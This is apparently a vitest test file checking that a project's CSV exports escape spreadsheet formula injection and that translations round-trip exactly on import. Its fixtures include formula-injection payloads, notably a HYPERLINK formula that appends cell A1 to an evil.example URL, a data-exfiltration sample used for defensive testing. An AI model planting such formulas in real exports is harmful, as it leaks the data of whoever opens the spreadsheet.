/**
 * Every CSV the project writes keeps a spreadsheet from running a text as a formula (OWASP
 * "CSV injection": =, +, -, @, tab or carriage return first gets a leading apostrophe), the
 * staff exports and the translations sent for review alike, and the translations' CSV comes
 * back as it went: the apostrophe is taken off on import, so "=HYPERLINK(...)" stays harmless
 * in the spreadsheet and "- Pasaporte" (a translator's own dash) is not changed by the trip.
 * The last test runs content:export and content:import as an office does (real processes).
 */
import { spawnSync } from 'node:child_process';
import { cp, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvFile, formulaSafe, fromFormulaSafe } from '../../src/core/csv.ts';
import type { ExportRow } from '../../src/knowledge/review-export.ts';
import { fromCsv, toCsv } from '../../src/knowledge/review-formats.ts';

/** Texts a spreadsheet would run as a formula, one per dangerous first character. */
const FORMULAS = ['=HYPERLINK("https://evil.example","clic")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
/** Texts a translator may write that look like formulas, or like escaped ones. */
const TRICKY = ['- Pasaporte', '+52 618 000 0000', "'= quoted", "''@two", "'plain", "it's", 'plain'];

/** Cells as an independent parser (csv-parse) reads the file: what a spreadsheet is given. */
const cells = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

const row = (text: string, i: number): ExportRow => ({
  file: 'locales/ht/common.json',
  unit: `unit.${i}`,
  lang: 'ht',
  spanish: text,
  text,
  notes: [text],
});

describe('formula-safe CSV', () => {
  it('puts an apostrophe before a text that starts =, +, -, @, tab or CR, and only then', () => {
    for (const text of FORMULAS) expect(formulaSafe(text)).toBe(`'${text}`);
    expect(formulaSafe('plain')).toBe('plain');
    expect(formulaSafe("it's")).toBe("it's");
    // Already starting with an apostrophe before a formula: one more, so the way back is exact.
    expect(formulaSafe("'=x")).toBe("''=x");
  });

  it('the staff exports write every formula start escaped', () => {
    const read = cells(csvFile([['text'], ...FORMULAS.map((text) => [text])]));
    expect(read.slice(1).map(([cell]) => cell)).toEqual(FORMULAS.map((text) => `'${text}`));
  });

  it('the translations CSV writes every column escaped: no cell a spreadsheet would run', () => {
    const read = cells(toCsv(FORMULAS.map(row)));
    for (const [i, line] of read.slice(1).entries()) {
      const text = FORMULAS[i] ?? '';
      expect(line).toEqual(['locales/ht/common.json', `unit.${i}`, 'ht', `'${text}`, `'${text}`, `'${text}`]);
    }
    for (const line of read) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('reads every text back as it was written, a translator’s dash and apostrophes too', () => {
    const texts = [...FORMULAS, ...TRICKY];
    for (const text of texts) expect(fromFormulaSafe(formulaSafe(text))).toBe(text);
    const back = fromCsv(toCsv(texts.map(row)));
    expect(back.map((r) => r.text)).toEqual(texts);
    expect(back.map((r) => r.spanish)).toEqual(texts);
    // A spreadsheet that saved the cell without its apostrophe gives the same text.
    const saved = fromCsv('file,unit,lang,spanish,text\r\nlocales/ht/common.json,a,ht,x,- Pasaporte\r\n');
    expect(saved[0]?.text).toBe('- Pasaporte');
  });

  it('content:export escapes an imported =HYPERLINK and content:import brings every text back byte for byte', async () => {
    const root = await mkdtemp(join(tmpdir(), 'enlace-csv-'));
    await cp('knowledge', join(root, 'knowledge'), { recursive: true });
    await cp('locales', join(root, 'locales'), { recursive: true });
    const file = join(root, 'locales', 'ht', 'common.json');
    const strings = JSON.parse(await readFile(file, 'utf8'));
    strings.staffGroup.closed = '=HYPERLINK("https://evil.example/?d="&A1,"Klike")';
    strings.staffGroup.howTo = '- Ekri isit la pou reponn moun nan.';
    strings.staffGroup.personSays = "'@ {{text}}";
    const planted = `${JSON.stringify(strings, null, 2)}\n`;
    await writeFile(file, planted);
    const env = {
      ...process.env,
      KNOWLEDGE_DIR: join(root, 'knowledge'),
      LOCALES_DIR: join(root, 'locales'),
    };
    const run = (script: string, args: string[]) => {
      const done = spawnSync(process.execPath, [`src/cli/${script}.ts`, ...args], { env, encoding: 'utf8' });
      return { status: done.status, out: `${done.stdout}${done.stderr}` };
    };

    const out = join(root, 'out');
    const exported = run('content-export', ['--lang', 'ht', '--all', '--out', out]);
    expect(exported.status, exported.out).toBe(0);
    const csv = join(out, (await readdir(out)).find((n) => n.endsWith('.csv')) ?? '');
    const written = cells(await readFile(csv, 'utf8'));
    const textOf = (unit: string) => written.find((r) => r[1] === unit)?.[4];
    expect(textOf('staffGroup.closed')).toBe(`'${strings.staffGroup.closed}`);
    expect(textOf('staffGroup.howTo')).toBe(`'${strings.staffGroup.howTo}`);
    expect(textOf('staffGroup.personSays')).toBe(`''@ {{text}}`);
    for (const line of written) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const imported = run('content-import', [csv, '--by', 'Marie-Ange Joseph', '--date', '2026-11-20']);
    expect(imported.status, imported.out).toBe(0);
    expect(await readFile(file, 'utf8')).toBe(planted);
  }, 120_000);
});
